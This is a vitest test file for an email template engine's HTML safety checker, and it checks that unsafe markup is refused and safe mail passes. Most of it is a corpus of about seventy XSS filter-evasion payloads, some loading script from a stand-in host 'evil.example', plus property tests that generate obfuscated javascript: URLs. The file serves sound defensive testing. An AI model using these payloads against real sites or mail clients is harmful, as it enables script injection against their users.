import type { TemplateEngineService, TemplateSource } from "@mailroom/core"
import { Effect, Exit } from "effect"
import fc from "fast-check"
import { afterAll, beforeAll, describe, expect, it } from "vitest"
import { makeTemplateEngine } from "../src/engine.js"
import { checkMarkup, urlProblem } from "../src/markup-check.js"

/** Filter-evasion cases in the manner of the OWASP XSS Filter Evasion Cheat Sheet: each must be refused. */
const evasions: ReadonlyArray<string> = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
  "<ScRiPt>alert(1)</sCrIpT>",
  "<SCRIPT/XSS SRC=\"https://evil.example/xss.js\"></SCRIPT>",
  "<<SCRIPT>alert(1);//\\<</SCRIPT>",
  "<scr<script>ipt>alert(1)</script>",
  "<IMG SRC=\"javascript:alert('XSS');\">",
  "<IMG SRC=javascript:alert('XSS')>",
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
  "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
  "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097>",
  "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74>",
  "<IMG SRC=\"jav\tascript:alert('XSS');\">",
  "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
  "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
  "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
  "<IMG SRC=\"jav&Tab;ascript:alert('XSS');\">",
  "<IMG SRC=\"jav&NewLine;ascript&colon;alert('XSS');\">",
  "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
  "<a href=\"java\u0000script:alert(1)\">x</a>",
  "<a href=\"\u0001javascript:alert(1)\">x</a>",
  "<a href=\"javascript&#58;alert(1)\">x</a>",
  "<a href=\"javascript&#x3a;alert(1)\">x</a>",
  "<a href=\"&#x6a;avascript:alert(1)\">x</a>",
  "<a href=\"&#106avascript:alert(1)\">x</a>",
  "<a href=\"vbscript:msgbox(1)\">x</a>",
  "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
  "<img src=\"data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=\">",
  "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\">",
  "<IMG SRC=/ onerror=\"alert(1)\"></img>",
  "<img src=x onerror=alert(1)>",
  "<img src=x OnErRoR=alert(1)>",
  "<img/src=\"x\"/onerror=alert(1)>",
  "<BODY ONLOAD=alert('XSS')>",
  "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
  "<svg/onload=alert(1)>",
  "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
  "<svg><animate attributeName=\"href\" values=\"javascript:alert(1)\" /></svg>",
  "<svg><set attributeName=\"href\" to=\"javascript:alert(1)\" /></svg>",
  "<math><a xlink:href=\"javascript:alert(1)\">x</a></math>",
  "<IFRAME SRC=\"https://evil.example/\"></IFRAME>",
  "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
  "<FRAMESET><FRAME SRC=\"https://evil.example/\"></FRAMESET>",
  "<form action=\"https://evil.example/\"><input name=p></form>",
  "<button formaction=\"javascript:alert(1)\">x</button>",
  "<input type=\"image\" src=\"javascript:alert(1)\">",
  "<isindex action=\"javascript:alert(1)\" type=image>",
  "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"https://evil.example/scriptlet.html\"></OBJECT>",
  "<EMBED SRC=\"https://evil.example/x.swf\" AllowScriptAccess=\"always\"></EMBED>",
  "<BASE HREF=\"javascript:alert('XSS');//\">",
  "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
  "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
  "<TD BACKGROUND=\"javascript:alert('XSS')\">",
  "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
  "<DIV STYLE=\"width: expression(alert('XSS'));\">",
  "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
  "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
  "<VIDEO POSTER=javascript:alert(1)></VIDEO>",
  "<!--[if mso]><script>alert(1)</script><![endif]-->",
  "<!--[if gte mso 9]><v:rect><a href=\"javascript:alert(1)\">x</a></v:rect><![endif]-->",
  "<!--[if IE]><img src=x onerror=alert(1)><![endif]-->",
  "<a href=\"java{{x}}script:alert(1)\">x</a>",
  "<scr{{x}}ipt>alert(1)</script>",
  "<img src=x o{{x}}nerror=alert(1)>",
  "<img src=x {{#if a}}onerror{{/if}}=alert(1)>",
  "<{{tag}} src=https://evil.example/x.js>",
  "<p>{{{raw}}}</p>",
  "<p>{{& raw}}</p>",
]

/** Mail that must pass untouched. */
const safe: ReadonlyArray<string> = [
  "<p>Hello {{first_name}}, <a href=\"https://example.com/?a=1&amp;b=2\">open</a></p>",
  "<a href=\"{{unsubscribe_url}}\">unsubscribe</a> <a href=\"mailto:help@example.com\">help</a>",
  "<img src=\"data:image/png;base64,iVBORw0KGgo=\" alt=\"javascript: the language\">",
  "<!--[if mso]><table role=\"presentation\"><tr><td><![endif]--><div>x</div><!--[if mso]></td></tr></table><![endif]-->",
  "<!--[if !mso]><!--><div class=\"x\">y</div><!--<![endif]-->",
  "<style>.button { color: {{theme.colors.primary}}; } @media (max-width: 480px) { .x { width: 100% } }</style>",
  "<p>on sale: <span title=\"one\">offer</span></p>",
  "<p>&lt;{{first_name}}&gt;</p>",
  "{{#each items}}<tr><td>{{name}}</td><td>{{price}}</td></tr>{{/each}}",
]

describe("the markup corpus", () => {
  let engine: TemplateEngineService
  let close: () => Promise<void>
  beforeAll(async () => {
    const { Scope } = await import("effect")
    const scope = Effect.runSync(Scope.make())
    engine = (await Effect.runPromise(Scope.extend(makeTemplateEngine(), scope))).service
    close = () => Effect.runPromise(Scope.close(scope, Exit.void))
  })
  afterAll(() => close())

  const prepare = (html: string) => Effect.runPromise(Effect.either(engine.prepare({ format: "html", subject: "s", html, text: null })))

  it.each(evasions.map((html) => [html]))("refuses %s, naming what and where", async (html) => {
    const result = await prepare(html)
    expect(result._tag).toBe("Left")
    if (result._tag !== "Left") return
    expect(result.left._tag).toBe("UnsafeTemplateMarkup")
    expect(result.left.code).toBe("VALIDATION_ERROR")
    expect(result.left.message).toMatch(/at line \d+, column \d+ \(/)
  })

  it.each(safe.map((html) => [html]))("accepts %s and keeps it as written", async (html) => {
    const result = await prepare(html)
    expect(result._tag).toBe("Right")
    if (result._tag === "Right") expect(result.right.html).toBe(html)
  })

  it("names the line, column and element path of each finding", async () => {
    const html = "<table>\n  <tr><td>\n    <a href=\"#\" onclick=\"x()\">a</a>\n  </td></tr>\n</table>\n<!--[if mso]>\n<script>x</script><![endif]-->"
    const result = await prepare(html)
    if (result._tag !== "Left" || result.left._tag !== "UnsafeTemplateMarkup") throw new Error("expected refusal")
    expect(result.left.findings).toEqual([
      { problem: "the event handler attribute onclick", line: 3, column: 5, path: "table > tr > td > a" },
      { problem: "<script>", line: 7, column: 1, path: "<!--[if]> > script" },
    ])
  })

  it("refuses partials in any part", async () => {
    const result = await Effect.runPromise(Effect.either(engine.prepare({ format: "html", subject: "{{> header}}", html: "<p>x</p>", text: null })))
    expect(result._tag === "Left" && result.left._tag).toBe("UnsafeTemplateMarkup")
  })

  it("names the part and line of a Handlebars syntax error", async () => {
    const result = await Effect.runPromise(Effect.either(engine.prepare({ format: "html", subject: "s", html: "<p>\n{{#if a}}x\n</p>", text: null })))
    if (result._tag !== "Left" || result.left._tag !== "InvalidTemplateSyntax") throw new Error("expected a syntax error")
    expect(result.left.field).toBe("html")
    expect(result.left.line).toBeGreaterThan(0)
  })

  it("lists the variables the template reads, case-sensitive, without the pipeline's", async () => {
    const source: TemplateSource = {
      format: "html",
      subject: "{{Greeting}} {{first_name}}",
      html: "<p>{{first_name}} {{theme.name}} {{#each items}}{{name}}{{/each}} {{#if vip}}{{@root.tier}}{{/if}} <a href=\"{{unsubscribe_url}}\">u</a></p>",
      text: "{{greeting}}",
    }
    const prepared = await Effect.runPromise(engine.prepare(source))
    expect(prepared.variables).toEqual(["Greeting", "first_name", "greeting", "items", "tier", "vip"])
    expect(prepared.engine).toBe("handlebars-email-v2")
  })
})

describe("spellings of a javascript: URL (property)", () => {
  /** One character of "javascript:" as an attribute may spell it: itself in either case, or a character reference. */
  const spelledChar = (char: string) =>
    fc.oneof(
      fc.constant(char),
      fc.constant(char.toUpperCase()),
      fc.constant(`&#${char.charCodeAt(0)};`),
      fc.constant(`&#x${char.charCodeAt(0).toString(16)};`),
      fc.constant(`&#X${char.charCodeAt(0).toString(16).toUpperCase()};`),
      fc.constant(`&#000${char.charCodeAt(0)};`),
    )
  /** What a browser drops inside a URL: tab and newline (raw or as references), and controls or spaces before it. */
  const noise = fc.array(fc.constantFrom("\t", "\n", "\r", "&Tab;", "&NewLine;", "&#9;", "&#x0A;", "&#13;"), { maxLength: 2 }).map((xs) => xs.join(""))
  const leading = fc.array(fc.constantFrom(" ", "\u0001", "\u0008", "&#14;", "&#32;", "\u000c"), { maxLength: 3 }).map((xs) => xs.join(""))
  const scheme = fc.tuple(...[..."javascript"].map((c) => fc.tuple(spelledChar(c), noise).map(([a, b]) => a + b)))
    .map((parts) => parts.join(""))
  const colon = fc.constantFrom(":", "&colon;", "&#58;", "&#x3a;", "&#X3A;")
  const attribute = fc.constantFrom("href", "src", "action", "formaction", "xlink:href", "HREF", "Src", "FormAction", "XLINK:HREF")
  const quote = fc.constantFrom("\"", "'", "")

  it("is refused in every URL attribute, quoted or not", () => {
    fc.assert(fc.property(leading, scheme, colon, attribute, quote, (lead, js, c, name, q) => {
      // An unquoted value cannot hold a space: the browser would end the value there.
      const value = q === "" ? `${lead}${js}${c}alert(1)`.replace(/[ \t\n\r\f]/g, "") : `${lead}${js}${c}alert(1)`
      const findings = checkMarkup(`<p><a ${name}=${q}${value}${q}>x</a></p>`)
      expect(findings.map((f) => f.problem)).toContain(`a javascript: URL in ${name.toLowerCase()}`)
    }), { numRuns: 500 })
  })

  it("an on* attribute is refused whatever its case", () => {
    const event = fc.constantFrom("onload", "onerror", "onclick", "onmouseover", "onfocus", "onanimationstart")
    const casing = fc.array(fc.boolean(), { minLength: 20, maxLength: 20 })
    fc.assert(fc.property(event, casing, fc.constantFrom("img", "a", "svg", "body", "div"), (name, upper, tag) => {
      const spelled = [...name].map((c, i) => (upper[i] ? c.toUpperCase() : c)).join("")
      const findings = checkMarkup(`<${tag} ${spelled}="x()">`)
      expect(findings.map((f) => f.problem)).toContain(`the event handler attribute ${name}`)
    }))
  })

  it("a URL of a web or mail scheme is never refused", () => {
    const url = fc.oneof(fc.webUrl(), fc.emailAddress().map((e) => `mailto:${e}`))
    fc.assert(fc.property(url, (value) => {
      expect(urlProblem(value.replace(/,/g, ""))).toBeUndefined()
    }))
  })
})
